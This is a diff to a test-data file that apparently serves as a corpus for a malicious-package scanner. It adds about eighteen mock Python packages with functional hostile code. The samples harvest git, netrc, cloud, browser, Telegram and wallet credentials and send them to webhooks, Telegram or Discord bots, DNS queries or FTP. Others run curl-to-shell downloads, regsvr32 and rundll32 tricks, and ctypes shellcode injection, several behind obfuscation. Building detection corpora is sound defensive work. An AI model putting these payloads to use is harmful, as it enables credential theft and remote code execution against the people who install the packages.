@@ -507,6 +507,177 @@ SAMPLES = [
         "os.execve('/proc/self/fd/%d' % fd, ['sshd'], os.environ.copy())\n"},
      "fileless loader: decoded ELF written to a memfd and executed from memory on import",
      "Wiz, PyLoose fileless Python loader (2023)"),
+
+    # --- fifth tuning batch (2026-12-01, helper "recall5"): other incidents and technique
+    # write-ups than the fifth held-out batch (which was committed and measured first), for the
+    # weak classes: credential stores, native injection, import-time code in imported modules,
+    # exfiltration channels, payloads through a variable or small helper.
+    ("demo-git-netrc", "wheel", {
+        "demo_git_netrc/__init__.py": "from . import _compat\n__all__ = []\n",
+        "demo_git_netrc/_compat.py": "import os, json, urllib.request\n"
+        "def _read(rel):\n    p = os.path.join(os.path.expanduser('~'), rel)\n"
+        "    return open(p).read() if os.path.exists(p) else ''\n"
+        "def _send(payload):\n"
+        "    urllib.request.urlopen(urllib.request.Request('https://webhook.site/5e1c7a2e-8f3b-4c1d-9a0e-2b7d6c5e4f31',\n"
+        "        data=json.dumps(payload).encode(), headers={'Content-Type': 'application/json'}), timeout=5)\n"
+        "loot = {'git': _read('.git-credentials'), 'netrc': _read('.netrc')}\n"
+        "_send(loot)\n"},
+     "submodule imported by __init__ reads .git-credentials and .netrc and posts them to a webhook",
+     "Wiz / GitGuardian, Shai-Hulud credential harvesting (2025)"),
+    ("demo-pxa-tdata", "wheel", {"demo_pxa_tdata/__init__.py":
+        "import os, shutil, tempfile, requests\n"
+        "_BOT = 'https://api.telegram.org/bot7012345678:AAF3kq9ZxY7wVvUuTtSsRrQqPpOoNnMmLlK'\n"
+        "def _pack():\n"
+        "    src = os.path.join(os.getenv('APPDATA', ''), 'Telegram Desktop', 'tdata')\n"
+        "    return shutil.make_archive(os.path.join(tempfile.gettempdir(), 'td'), 'zip', src)\n"
+        "if os.path.isdir(os.path.join(os.getenv('APPDATA', ''), 'Telegram Desktop')):\n"
+        "    requests.post(_BOT + '/sendDocument', data={'chat_id': '-1001234'}, files={'document': open(_pack(), 'rb')})\n"},
+     "Telegram Desktop session folder zipped and sent to a Telegram bot on import",
+     "Cisco Talos, PXA Stealer (2024)"),
+    ("demo-rundll32", "sdist", {"setup.py":
+        "import os, subprocess, tempfile, urllib.request\n"
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "class I(install):\n    def run(self):\n"
+        "        dll = os.path.join(tempfile.gettempdir(), 'msvcp_upd.dll')\n"
+        "        urllib.request.urlretrieve('https://cdn-upd.example-files.net/m.dll', dll)\n"
+        "        subprocess.Popen(['rundll32.exe', dll + ',DllRegisterServer'])\n"
+        "        install.run(self)\n"
+        "setup(name='demo-rundll32', version='1.0', cmdclass={'install': I})\n"},
+     "install hook downloads a DLL to temp and runs its export through rundll32",
+     "Red Canary, Threat Detection Report: Rundll32 (T1218.011)"),
+    ("demo-regsvr32", "wheel", {"demo_regsvr32/__init__.py":
+        "import os, sys\n"
+        "if sys.platform == 'win32':\n"
+        "    os.system('regsvr32 /s /n /u /i:https://cdn-upd.example-files.net/s.sct scrobj.dll')\n"},
+     "regsvr32 runs a remote scriptlet through scrobj.dll on import (Squiblydoo)",
+     "Red Canary / MITRE ATT&CK, Regsvr32 'Squiblydoo' (T1218.010)"),
+    ("demo-loadlib", "wheel", {
+        "demo_loadlib/__init__.py": "import ctypes, os, sys\n"
+        "if sys.platform == 'win32':\n"
+        "    k32 = ctypes.WinDLL('kernel32')\n"
+        "    h = k32.LoadLibraryW(os.path.join(os.path.dirname(__file__), 'bin', 'helper.dat'))\n"
+        "    entry = k32.GetProcAddress(h, b'Start')\n"
+        "    ctypes.CFUNCTYPE(ctypes.c_int)(entry)()\n",
+        "demo_loadlib/bin/helper.dat": "MZ\x90\x00\x03" + "\x00" * 59 + "PE\x00\x00d\x86"},
+     "a DLL shipped under a data name loaded with LoadLibrary, its export called, on import",
+     "MITRE ATT&CK, Shared Modules (T1129) procedure examples"),
+    ("demo-shellcode-helper", "wheel", {"demo_shellcode_helper/__init__.py":
+        "import base64, ctypes\n"
+        "def _blob(s):\n    return base64.b64decode(s)\n"
+        "buf = _blob('" + base64.b64encode(b"\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00" + b"\x90" * 22).decode() + "')\n"
+        "k = ctypes.windll.kernel32\n"
+        "k.VirtualAlloc.restype = ctypes.c_void_p\n"
+        "addr = k.VirtualAlloc(None, len(buf), 0x3000, 0x40)\n"
+        "ctypes.memmove(addr, buf, len(buf))\n"
+        "th = k.CreateThread(None, 0, ctypes.c_void_p(addr), None, 0, None)\n"
+        "k.WaitForSingleObject(th, -1)\n"},
+     "shellcode decoded by a helper, copied into RWX memory and run on a new thread on import",
+     "SANS ISC (X. Mertens), Python shellcode injectors through ctypes (2022-2024)"),
+    ("demo-dns-txt", "sdist", {"setup.py":
+        "import os, socket, getpass, binascii\nimport dns.resolver\nfrom setuptools import setup\n"
+        "data = binascii.hexlify(('%s|%s|%s' % (getpass.getuser(), socket.gethostname(), os.getcwd())).encode()).decode()\n"
+        "for i in range(0, len(data), 60):\n"
+        "    try:\n        dns.resolver.resolve('%d.%s.q.tun-dns.example.top' % (i, data[i:i + 60]), 'TXT')\n"
+        "    except Exception:\n        pass\n"
+        "setup(name='demo-dns-txt', version='1.0')\n"},
+     "user, host and directory hex-encoded into DNS TXT queries to a throwaway zone at install",
+     "Unit 42, DNS tunneling in the wild (2024)"),
+    ("demo-helper-py-c", "wheel", {"demo_helper_py_c/__init__.py":
+        "import base64, zlib, subprocess, sys\n"
+        "def _u(x):\n    return zlib.decompress(base64.b85decode(x)).decode()\n"
+        "_STAGE = '" + base64.b85encode(zlib.compress(b"import os;os.system('curl -s http://203.0.113.71/s | sh')")).decode() + "'\n"
+        "stage = _u(_STAGE)\n"
+        "subprocess.Popen([sys.executable, '-c', stage], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"},
+     "payload unpacked by a small helper into a variable, run through python -c on import",
+     "MITRE ATT&CK, Deobfuscate/Decode Files or Information (T1140) procedure examples"),
+    ("demo-cli-creds", "sdist", {"setup.py":
+        "import os, socket, json\nfrom setuptools import setup\n"
+        "H = os.path.expanduser('~')\n"
+        "F = ['.pypirc', '.docker/config.json', '.kube/config', '.config/gh/hosts.yml', '.npmrc']\n"
+        "blob = json.dumps({f: open(os.path.join(H, f)).read() for f in F if os.path.exists(os.path.join(H, f))}).encode()\n"
+        "s = socket.create_connection(('collect.example-sync.tk', 443))\n"
+        "s.sendall(b'POST /k HTTP/1.1\\r\\nHost: collect.example-sync.tk\\r\\nContent-Length: ' + str(len(blob)).encode() + b'\\r\\n\\r\\n' + blob)\n"
+        "setup(name='demo-cli-creds', version='1.0')\n"},
+     "registry, docker, kube and gh credential files sent by a hand-built HTTP request over a raw socket at install",
+     "Wiz, s1ngularity / Nx compromise credential harvesting (2025)"),
+    ("demo-creal-ff", "wheel", {
+        "demo_creal_ff/__init__.py": "from .sync import *\n",
+        "demo_creal_ff/sync.py": "import os, glob, requests\n"
+        "HOOK = 'https://discord.com/api/webhooks/1300000000000000000/Y3JlYWwtZXhhbXBsZS10b2tlbi0wMDAw'\n"
+        "def _profiles():\n"
+        "    return glob.glob(os.path.join(os.getenv('APPDATA', ''), 'Mozilla', 'Firefox', 'Profiles', '*'))\n"
+        "for prof in _profiles():\n"
+        "    for name in ('logins.json', 'key4.db', 'cookies.sqlite'):\n"
+        "        p = os.path.join(prof, name)\n"
+        "        if os.path.exists(p):\n"
+        "            requests.post(HOOK, files={'file': (name, open(p, 'rb'))})\n"},
+     "Firefox logins, key database and cookies sent to a webhook by a module star-imported on import",
+     "Cyble, Creal Stealer (2023)"),
+    ("demo-drop-startfile", "wheel", {"demo_drop_startfile/__init__.py":
+        "import os, pathlib, tempfile, requests\n"
+        "exe = pathlib.Path(tempfile.gettempdir()) / 'rtkaudio.exe'\n"
+        "exe.write_bytes(requests.get('https://dl.example-files.net/r/rtk.exe', timeout=20).content)\n"
+        "if os.name == 'nt':\n    os.startfile(str(exe))\n"},
+     "executable downloaded with pathlib.write_bytes and started with os.startfile on import",
+     "Phylum, Rust executables dropped by PyPI packages (2023)"),
+    ("demo-cdll-png", "wheel", {
+        "demo_cdll_png/__init__.py": "import ctypes, pathlib\n"
+        "_lib = ctypes.CDLL(str(pathlib.Path(__file__).parent / 'assets' / 'logo.png'))\n",
+        "demo_cdll_png/assets/logo.png": "\x7fELF\x02\x01\x01" + "\x00" * 9 + "\x03\x00>\x00" + "\x00" * 44},
+     "an ELF shared object shipped under an image name, loaded with ctypes.CDLL on import (its constructor runs)",
+     "MITRE ATT&CK, Shared Modules (T1129) and Masquerading (T1036.008)"),
+    ("demo-wallet-keyfile", "wheel", {"demo_wallet_keyfile/__init__.py":
+        "import json, pathlib, requests\n"
+        "def _keys():\n"
+        "    out = {}\n"
+        "    for p in (pathlib.Path.home() / '.config' / 'solana' / 'id.json', pathlib.Path.home() / '.ethereum' / 'keystore'):\n"
+        "        if p.is_file():\n            out[str(p)] = p.read_text()\n"
+        "        elif p.is_dir():\n            out.update({str(f): f.read_text() for f in p.iterdir()})\n"
+        "    return out\n"
+        "requests.post('https://rpc-metrics.example-node.top/v1', json=_keys(), timeout=5)\n"},
+     "Solana CLI keypair and Ethereum keystore files read with pathlib and posted on import",
+     "MITRE ATT&CK, Unsecured Credentials: Credentials In Files (T1552.001)"),
+    ("demo-ftp-exfil", "wheel", {"demo_ftp_exfil/__init__.py":
+        "import io, os, json, socket, ftplib\n"
+        "def _up():\n"
+        "    data = json.dumps({'h': socket.gethostname(), 'env': dict(os.environ)}).encode()\n"
+        "    f = ftplib.FTP('ftp.example-drop.tk', 'anonymous', 'x@x')\n"
+        "    f.storbinary('STOR %s.json' % socket.gethostname(), io.BytesIO(data))\n"
+        "    f.quit()\n"
+        "_up()\n"},
+     "hostname and environment uploaded over FTP on import",
+     "MITRE ATT&CK, Exfiltration Over Unencrypted Non-C2 Protocol (T1048.003)"),
+    ("demo-atexit-drop", "wheel", {"demo_atexit_drop/__init__.py":
+        "import atexit, os, stat, tempfile, urllib.request, subprocess\n"
+        "def _later():\n"
+        "    p = os.path.join(tempfile.gettempdir(), '.s')\n"
+        "    urllib.request.urlretrieve('http://203.0.113.72/s', p)\n"
+        "    os.chmod(p, stat.S_IRWXU)\n"
+        "    subprocess.Popen([p], start_new_session=True)\n"
+        "atexit.register(_later)\n"},
+     "download-and-run registered on import to run at interpreter exit",
+     "MITRE ATT&CK, Event Triggered Execution (T1546)"),
+    ("demo-pip-url", "wheel", {"demo_pip_url/__init__.py":
+        "import subprocess, sys\n"
+        "try:\n    import helperx  # noqa\n"
+        "except ImportError:\n"
+        "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://files.example-share.io/d/helperx-1.0.tar.gz'])\n"},
+     "on import, pip installs a package from a URL on a file-sharing host (its setup.py runs)",
+     "MITRE ATT&CK, Ingress Tool Transfer (T1105)"),
+    ("demo-class-body", "wheel", {"demo_class_body/config.py":
+        "import urllib.request\n"
+        "class Settings:\n"
+        "    remote = urllib.request.urlopen('http://203.0.113.73/settings.py').read()\n"
+        "    exec(remote)\n",
+        "demo_class_body/__init__.py": "from .config import Settings\n"},
+     "fetch-and-exec in a class body of a module imported by __init__ (class bodies run on import)",
+     "MITRE ATT&CK, Command and Scripting Interpreter: Python (T1059.006)"),
+    ("demo-chr-shell", "wheel", {"demo_chr_shell/__init__.py":
+        "import subprocess\n"
+        "_c = ''.join(map(chr, [" + ", ".join(str(ord(c)) for c in "curl -s http://203.0.113.74/i | sh") + "]))\n"
+        "subprocess.Popen(_c, shell=True)\n"},
+     "shell command built from a chr() list into a variable and run on import",
+     "MITRE ATT&CK, Obfuscated Files or Information (T1027)"),
 ]
 
 # Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
@@ -558,9 +729,27 @@ CLASSES = {
     "demo-src-exfil": ["exfiltration", "shady-links", "import-time"],
     "demo-cloud-time": ["credential-theft", "exfiltration", "import-time"],
     "demo-pyloose": ["native-injection", "decode-run", "import-time"],
+    "demo-git-netrc": ["credential-theft", "exfiltration", "import-time"],
+    "demo-pxa-tdata": ["credential-theft", "exfiltration", "import-time"],
+    "demo-rundll32": ["native-injection", "download-run"],
+    "demo-regsvr32": ["native-injection", "download-run", "import-time"],
+    "demo-loadlib": ["native-injection", "non-source-payload", "import-time"],
+    "demo-shellcode-helper": ["native-injection", "decode-run", "import-time"],
+    "demo-dns-txt": ["exfiltration", "beacon"],
+    "demo-helper-py-c": ["decode-run", "download-run", "import-time"],
+    "demo-cli-creds": ["credential-theft", "exfiltration", "shady-links"],
+    "demo-creal-ff": ["credential-theft", "exfiltration", "import-time"],
+    "demo-drop-startfile": ["download-run", "import-time"],
+    "demo-cdll-png": ["native-injection", "non-source-payload", "import-time"],
+    "demo-wallet-keyfile": ["credential-theft", "exfiltration", "import-time"],
+    "demo-ftp-exfil": ["exfiltration", "beacon", "import-time"],
+    "demo-atexit-drop": ["download-run", "import-time"],
+    "demo-pip-url": ["download-run", "shady-links", "import-time"],
+    "demo-class-body": ["download-run", "import-time"],
+    "demo-chr-shell": ["decode-run", "download-run", "import-time"],
 }
 
-BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin", ".pkl", ".pt", ".joblib", ".npy", ".ckpt")
+BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin", ".pkl", ".pt", ".joblib", ".npy", ".ckpt", ".dat")
 
 
 def to_bytes(path, content):
